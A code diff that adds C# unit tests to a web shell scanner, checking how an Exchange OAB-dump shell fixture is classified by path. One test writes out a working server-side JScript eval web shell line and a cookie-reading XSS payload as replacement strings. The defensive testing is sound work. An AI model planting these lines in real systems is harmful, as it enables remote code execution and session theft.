@@ -85,6 +85,30 @@ public class WebShellRobustnessTests
         Assert.Null(OabConfigDump.TryRecognize(File.ReadAllText(FileFixtures.Benign("logon.aspx"))));
     }
 
+    [Theory]
+    [InlineData("/triage/inetpub/wwwroot/oab-backup.txt", "HT-WS-014", Verdict.Exploitation)]
+    [InlineData("/triage/inetpub/wwwroot/aspnet_client/x.aspx", "HT-WS-008", Verdict.Compromise)]
+    public void Oab_dump_shell_is_a_compromise_only_where_iis_runs_it(string path, string ruleId, Verdict verdict)
+    {
+        var hit = new WebShellScanner().Classify(path, File.ReadAllBytes(FileFixtures.Shell("oab-dump-shell.aspx"))).First();
+
+        Assert.Equal(ruleId, hit.RuleId);
+        Assert.Equal(verdict, hit.Verdict);
+        Assert.True(hit.Severity >= Severity.High);
+    }
+
+    [Fact]
+    public void Oab_dump_with_client_side_script_only_is_exploitation_evidence()
+    {
+        string dump = File.ReadAllText(FileFixtures.Shell("oab-dump-shell.aspx"))
+            .Replace("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>", "http://f/<script>alert(document.cookie)</script>", StringComparison.Ordinal);
+
+        var findings = new WebShellScanner().Classify("/triage/owa/auth/x.aspx", dump);
+
+        Assert.Contains(findings, f => f.RuleId == "HT-WS-014" && f.LineNumber == 18);
+        Assert.DoesNotContain(findings, f => f.Verdict == Verdict.Compromise);
+    }
+
     [Fact]
     public void Default_web_site_path_comes_from_application_host_config()
     {
